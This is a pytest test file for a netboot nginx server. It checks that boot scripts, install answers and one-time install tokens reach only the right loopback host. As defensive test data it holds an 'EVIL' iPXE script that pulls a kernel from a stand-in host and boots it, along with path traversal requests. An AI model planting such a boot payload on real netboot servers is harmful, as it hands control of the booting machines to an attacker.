"""What the server that hosts boot from takes from a network, and what it gives to whom: real nginx, as it is rendered.

Hosts are addresses of the loopback; whoever asks chooses the one that it comes from.
"""

from __future__ import annotations

import getpass
import http.client
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from podwright.bringup.plan.boot_scripts import boot_files
from podwright.bringup.plan.netboot import NetbootPlaces, nginx_text, token_command
from podwright.bringup.plan.site import Site, site_of
from podwright.bringup.plan.template import text_of
from podwright.lab.doors import choose
from podwright.spec import load_pod
from tests.paths import CASES
from tests.real.clients import until

G1, G2, STRANGER = "127.88.0.11", "127.88.0.12", "127.88.0.201"
MAC1, MAC2 = "52-54-00-88-00-01", "52-54-00-88-00-02"
MARK = f"/done/{MAC1}.ipxe"


@dataclass(frozen=True)
class Server:
    site: Site
    places: NetbootPlaces
    port: int

    def ask(self, address: str, method: str, path: str, body: bytes | None = None, **headers: str) -> tuple[int, str]:
        """Gives status and text of an answer."""
        connection = http.client.HTTPConnection("127.88.0.1", self.port, source_address=(address, 0), timeout=300)
        try:
            connection.putrequest(method, path, skip_accept_encoding=True)
            for name, value in {**headers, "Content-Length": str(len(body or b""))}.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            return answer.status, answer.read().decode()
        finally:
            connection.close()

    def give_tokens(self) -> None:
        subprocess.run(token_command(self.site, self.places).run, check=True, capture_output=True)

    def token(self) -> str:
        status, text = self.ask(G1, "GET", "/answers/g1.token")
        assert status == 200
        return text.strip()

    def move(self, address: str, token: str, host: str = "g1", to: str = MARK) -> int:
        return self.ask(address, "MOVE", f"/waiting/{host}/{token}", Destination=to)[0]

    def mark(self) -> Path:
        return Path(self.places.root + MARK)


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    text = (CASES / "bringup" / "netboot" / "pod.yaml").read_text().replace("10.88.", "127.88.")
    (tmp_path / "pod.yaml").write_text(text)
    site = site_of(load_pod(tmp_path / "pod.yaml"))
    places = NetbootPlaces(
        root=f"{tmp_path}/http",
        installer=f"{tmp_path}/installer",
        log=f"{tmp_path}/requests",
        run=str(tmp_path),
        user=getpass.getuser(),
        tokens=f"{tmp_path}/tokens",
    )
    for path, content in boot_files(site).items():
        file = Path(places.root) / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content)
    for folder in (f"{places.root}/done", f"{places.root}/waiting", places.installer):
        Path(folder).mkdir()
    Path(places.tokens).write_text(text_of("netboot-tokens.sh", root=places.root, user=places.user))
    (port,) = choose(1)
    config = tmp_path / "nginx.conf"
    config.write_text(nginx_text(site, places).replace("listen 127.88.0.1:8080;", f"listen 127.88.0.1:{port};"))
    server = Server(site, places, port)
    server.give_tokens()
    with subprocess.Popen(["/usr/sbin/nginx", "-c", str(config), "-g", "daemon off;"]) as nginx:
        try:
            until(lambda: answers(server), "the server answers")
            yield server
        finally:
            nginx.terminate()


def answers(server: Server) -> bool:
    try:
        return server.ask(STRANGER, "GET", "/boot.ipxe")[0] == 200
    except OSError:
        return False


EVIL = b"#!ipxe\nkernel http://203.0.113.1/evil\nboot\n"


@pytest.mark.parametrize("address", [STRANGER, G2, G1])
@pytest.mark.parametrize("path", [MARK, "/boot.ipxe", f"/mac/{MAC1}.ipxe", "/waiting/g1/" + 64 * "0", "/done/x.ipxe"])
def test_nobody_sends_what_another_boots(server: Server, address: str, path: str) -> None:
    before = {file: file.read_bytes() for file in Path(server.places.root).rglob("*") if file.is_file()}
    assert server.ask(address, "PUT", path, EVIL)[0] in (403, 405)
    assert {file: file.read_bytes() for file in Path(server.places.root).rglob("*") if file.is_file()} == before


def test_what_boot_looks_at_is_never_run(server: Server) -> None:
    script = boot_files(server.site)["boot.ipxe"].splitlines()
    assert script[1] == "imgfetch --name done done/${net0/mac:hexhyp}.ipxe && exit ||"
    assert not [line for line in script if re.search(r"chain.*done/", line)]


def test_a_token_works_once_from_its_own_host_alone(server: Server) -> None:
    token = server.token()
    assert [server.move(address, token) for address in (STRANGER, G2)] == [403, 403]
    assert server.move(G1, "0" * 64) == 404
    # Nor does it make another host's mark, nor anything else, nor take what is sent with it.
    for place in (f"/done/{MAC2}.ipxe", "/boot.ipxe", f"/mac/{MAC1}.ipxe", f"{MARK}/../x", ""):
        assert server.move(G1, token, to=place) == 403
    assert server.ask(G1, "MOVE", f"/waiting/g1/{token}", EVIL, Destination=MARK)[0] in (400, 415)
    assert not server.mark().exists()
    assert server.move(G1, token) == 204
    assert server.mark().read_text() == "installed\n"
    assert (server.ask(G1, "GET", MARK), server.ask(STRANGER, "GET", MARK)[0]) == ((200, "installed\n"), 403)


def test_a_token_that_was_seen_before_is_none_after_the_host_is_installed_again(server: Server) -> None:
    token = server.token()
    assert server.move(G1, token) == 204
    assert server.move(G1, token) == 404
    server.give_tokens()
    assert server.mark().exists()
    server.mark().unlink()
    Path(server.places.root, "answers", "g1.token").unlink()
    server.give_tokens()
    assert (server.move(G1, token), server.token() != token) == (404, True)
    assert server.move(G1, server.token()) == 204


def test_scripts_and_answers_go_to_the_address_that_they_are_for(server: Server) -> None:
    for path in ("answers/g1.cfg", "answers/g1.token", f"mac/{MAC1}.ipxe"):
        statuses = [server.ask(address, "GET", f"/{path}")[0] for address in (G1, G2, STRANGER)]
        assert statuses == [200, 403, 403], path
    token = server.token()
    for path in (f"/waiting/g1/{token}", "/answers/", "/answers/../answers/g2.cfg", "//answers/g2.cfg"):
        assert server.ask(G1, "GET", path)[0] == 403, path
    for path in ("/boot.ipxe", "/unknown.ipxe", "/running"):
        assert server.ask(STRANGER, "GET", path)[0] == 200


def test_a_mark_of_an_earlier_release_is_still_one(server: Server) -> None:
    """Which a host had put there as a script: it is not run any more, and its disk is not written over."""
    server.mark().write_bytes(EVIL)
    server.give_tokens()
    assert server.ask(G1, "GET", MARK)[0] == 200
    looked = subprocess.run(token_command(server.site, server.places).check, capture_output=True, text=True, check=True)
    assert looked.stdout == "every host has its token\n"
